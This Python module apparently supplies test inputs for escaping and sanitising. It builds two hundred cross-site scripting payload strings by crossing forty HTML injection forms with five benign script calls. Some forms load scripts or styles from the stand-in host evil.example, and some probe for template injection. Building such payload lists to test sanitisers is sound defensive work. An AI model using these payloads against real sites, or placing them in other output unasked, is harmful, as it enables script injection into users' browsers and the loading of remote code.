"""Two hundred texts that would run a script wherever somebody forgets to escape."""

from __future__ import annotations

CALLS = ("window.hit=1", "alert(1)", "fetch('/hit')", "import('/hit')", "document.title='hit'")

FORMS = (
    "<script>{call}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>{call}",
    "</script><script>{call}</script>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</style><script>{call}</script>",
    "--><script>{call}</script><!--",
    "]]><script>{call}</script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    '" onfocus="{call}" autofocus x="',
    "' onmouseover='{call}' x='",
    " onclick={call} ",
    "`onload={call}`",
    "<img src=x onerror={call}>",
    '<img src=x onerror="{call}"//',
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={call}>",
    "<body onload={call}>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe src='javascript:{call}'></iframe>",
    "<object data='javascript:{call}'></object>",
    "<embed src='data:text/html,<script>{call}</script>'>",
    "<a href='javascript:{call}'>go</a>",
    "[go](javascript:{call})",
    "[url=javascript:{call}]go[/url]",
    "<a href='&#106;avascript:{call}'>go</a>",
    "<form action='javascript:{call}'><button>go</button></form>",
    "<button formaction='javascript:{call}'>go</button>",
    "<base href='//evil.example/'>{call}",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<link rel=stylesheet href='//evil.example/x.css'>{call}",
    "<style>@import'//evil.example/x.css';</style>{call}",
    "<div style='background:url(javascript:{call})'>",
    "<div hx-get='/hit' hx-trigger='load' hx-on:load='{call}'></div>",
    "<details open ontoggle={call}>",
    "&lt;script&gt;{call}&lt;/script&gt;<script>{call}</script>",
    "\u003cscript\u003e{call}\u003c/script\u003e{{{{7*7}}}}{{% debug %}}",
)

STRINGS = tuple(form.format(call=call) for form in FORMS for call in CALLS)
